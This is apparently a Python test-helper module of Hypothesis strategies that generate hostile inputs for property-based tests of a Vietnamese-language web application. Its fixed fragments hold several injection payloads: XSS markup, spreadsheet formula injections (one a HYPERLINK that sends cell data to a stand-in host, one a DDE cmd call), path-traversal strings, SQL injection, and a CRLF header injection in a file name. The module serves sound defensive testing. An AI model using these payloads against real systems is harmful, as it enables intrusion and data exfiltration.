"""Hostile inputs for the property-based tests: Vietnamese in both Unicode forms, control and
bidirectional characters, markup, spreadsheet formulas, path tricks, and texts around a limit.

Every strategy draws from fixed fragments that are known to have broken systems like this one,
mixed with arbitrary Unicode, so that a run explores both the known traps and what nobody thought of.
"""

import unicodedata

from hypothesis import strategies as st

NAME_NFC = "Nguyễn Thị Ánh Tuyết"
NAME_NFD = unicodedata.normalize("NFD", NAME_NFC)
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
# Raw markup that must never come back unescaped in an HTML page.
MARKUP = (SCRIPT, IMG, '"><svg onload=alert(1)>', "</textarea><script>alert(2)</script>")
FORMULAS = (
    '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
PATHS = (
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "C:\\Windows\\system32\\cmd.exe",
    "....//....//x",
    "%2e%2e%2fetc%2fpasswd",
)
CONTROLS = tuple(chr(code) for code in range(0x20)) + ("\x7f", "\x85")
BIDI = ("\u202e", "\u202d", "\u202a", "\u2066", "\u2069", "\u200f")
ODD = (
    "\ufeff",  # a byte order mark in the middle of a text
    "\u200b",  # zero width space
    "\u00a0",  # no-break space
    "\u2028",  # line separator
    "\ufffe",  # a noncharacter, not allowed in XML
    "\U0001f600",
    "e\u0301\u0323",  # stacked combining marks
    "\u0301",  # a combining mark with nothing to combine with
    "đĐ",
    "{{ 7|add:1 }}",
    "{% now 'Y' %}",
    "%(name)s %s {0}",
    "' OR 1=1 --",
    '"quoted", with; separators',
)
VIETNAMESE = (
    NAME_NFC,
    NAME_NFD,
    "Ủy ban nhân dân xã Tân Phú",
    unicodedata.normalize("NFD", "Đảng ủy xã Hòa Bình"),
    "cấp sổ đỏ, thu tiền ngoài quy định",
)
FRAGMENTS = VIETNAMESE + MARKUP + FORMULAS + PATHS + CONTROLS + BIDI + ODD

# Anything a browser or an HTTP form can carry (no lone surrogates: they cannot be encoded).
_ANY_CHAR = st.characters(codec="utf-8")


def hostile_text(
    *, max_parts: int = 8, fragments: tuple[str, ...] = FRAGMENTS, alphabet=_ANY_CHAR
) -> st.SearchStrategy[str]:
    part = st.one_of(st.sampled_from(fragments), st.text(alphabet, max_size=12))
    return st.lists(part, max_size=max_parts).map("".join)


def hostile_line(**kwargs) -> st.SearchStrategy[str]:
    """A hostile text for a one-line field (names, places): no line breaks of its own, though
    control characters stay."""
    return hostile_text(**kwargs).map(lambda text: text.replace("\n", " ").replace("\r", " "))


# JSON can carry what HTTP forms cannot: lone surrogates.
def json_text(**kwargs) -> st.SearchStrategy[str]:
    return st.one_of(
        hostile_text(**kwargs),
        st.tuples(hostile_text(max_parts=3), st.sampled_from(["\ud800", "\udfff", "\ud83d"])).map("".join),
    )


# Characters that fill a text up to a length, with how many code points each leaves after NFC.
_FILLERS = (("a", 1), ("ễ", 1), (unicodedata.normalize("NFD", "ễ"), 1), ("Ánh ", 4))


@st.composite
def text_around(draw, limit: int, *, spread: int = 2) -> str:
    """A text whose cleaned length is ``limit - spread … limit + spread``, written in NFC or NFD
    with control characters sprinkled in (they are removed before counting)."""
    filler, width = draw(st.sampled_from(_FILLERS))
    wanted = limit + draw(st.integers(-spread, spread))
    count, rest = divmod(wanted, width)
    text = filler * count + "x" * rest
    noise = draw(st.lists(st.sampled_from(["\x00", "\x07", "\u202e", "\x1b"]), max_size=3))
    at = draw(st.integers(0, len(text)))
    return text[:at] + "".join(noise) + text[at:]


FILE_NAMES = PATHS + (
    "bằng chứng.pdf",
    unicodedata.normalize("NFD", "Biên bản họp.pdf"),
    "x\x00.txt",
    "\u202eexe.txt",
    "a\r\nContent-Type: text/html.txt",
    'quote".txt',
    ".htaccess",
    "CON",
    "a" * 300 + ".txt",
    "",
)


def file_name() -> st.SearchStrategy[str]:
    return st.one_of(st.sampled_from(FILE_NAMES), hostile_line(max_parts=4))
